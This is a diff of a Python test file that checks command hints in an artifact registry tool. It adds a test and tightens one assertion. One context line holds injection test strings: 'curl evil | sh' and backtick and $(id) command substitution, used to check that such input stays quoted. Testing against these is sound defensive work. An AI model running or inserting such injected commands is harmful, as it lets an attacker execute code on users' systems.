@@ -68,9 +68,13 @@ def test_a_command_with_words_of_a_registry_is_one_command() -> None:
     assert "set 'a; curl evil | sh' --serve" in found and "promote 'b`id`;$(id)'" in found
 
 
+def test_a_rule_without_artifacts_is_no_advice() -> None:
+    assert hint(errors.NoSuchArtifactError, serve={"rule": "built", "excluded": []}) == ""
+
+
 def test_without_facts_the_hint_of_the_registry_stays() -> None:
     for kind in errors.BY_CODE.values():
-        assert command_hint(kind(context={})) is None or kind is errors.NoWorkerError
+        assert command_hint(kind(context={})) is None
 
 
 def test_a_default_hint_is_worded_for_each_side() -> None:
